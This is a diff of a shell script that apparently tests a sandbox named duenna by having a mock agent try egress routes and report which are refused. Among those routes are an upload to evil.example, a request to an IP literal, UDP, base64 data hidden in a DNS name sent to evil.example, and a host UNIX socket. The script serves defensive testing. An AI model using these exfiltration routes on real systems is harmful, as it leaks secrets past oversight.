@@ -1,7 +1,7 @@
 #!/bin/sh
 # SPDX-License-Identifier: Apache-2.0
 # The agent.  It knows nothing of duenna: no proxy, no certificate, no token.
-api=https://api.example.com/repos/acme/widgets
+api=https://api.example/acme
 
 # try WHAT COMMAND...: one line of what came of it
 try() {
@@ -9,15 +9,15 @@ try() {
 	shift
 	if out=$("$@" 2>&1); then verdict=allowed; else verdict=refused; fi
 	case $out in *[Rr]efused* | *duenna* | *'No such file'*) verdict=refused ;; esac
-	line=$(printf '%s\n' "$out" | grep -v '^$' | head -n 1 | cut -c 1-62)
-	printf '  %-8s %-25s %s\n' "$verdict" "$what" "$line"
+	line=$(printf '%s\n' "$out" | head -n 1 | sed 's/^duenna refused [^ ]* [^ ]*: //')
+	printf '  %-8s  %-32s  %.54s\n' "$verdict" "$what" "$line"
 }
 
 get() { curl -sS -m 10 "$@"; }
 
 clone() {
-	git clone -q https://git.example.com/acme/widgets.git &&
-		echo "$(git -C widgets log --format=%s): $(git -C widgets ls-files | paste -sd ' ')"
+	git clone -q https://git.example/acme/app.git &&
+		echo "$(git -C app log --format=%s): $(git -C app ls-files | paste -sd ' ')"
 }
 
 last_line() { "$@" 2>&1 | tail -n 1; }
@@ -39,13 +39,12 @@ name() {
 		sed 's/^\(198\.1[89][.0-9]*\) .*/refused: \1 is made up, nobody was asked/'
 }
 
-try 'API, no token of its own' get "$api/issues/7"
-try 'git clone'                clone
-try 'another path'             get "$api/keys"
-try 'another method'           get -X DELETE "$api/issues/7"
-try 'another host'             get https://evil.example/upload
-try 'an IP literal'            get -k https://203.0.113.9/
-try 'UDP'                      udp
-try 'data in a DNS name'       name c2VjcmV0.evil.example
-try 'UNIX socket of the host'  unix "$HOST_SOCKET"
-printf '  %s\n' "and its \$ACME_TOKEN is worth nothing: $ACME_TOKEN"
+try 'GET api.example/acme/issues/7'   get "$api/issues/7"
+try 'git clone git.example/acme/app'  clone
+try 'another path, /acme/keys'        get "$api/keys"
+try 'another host, evil.example'      get -4 https://evil.example/upload
+try 'an IP literal, 203.0.113.9'      get -k https://203.0.113.9/
+try 'UDP to 203.0.113.9'              udp
+try 'data in a DNS name'              name c2VjcmV0.evil.example
+try 'a UNIX socket of the host'       unix "$HOST_SOCKET"
+printf '  %s\n' "All the agent has for a token: $ACME_TOKEN"
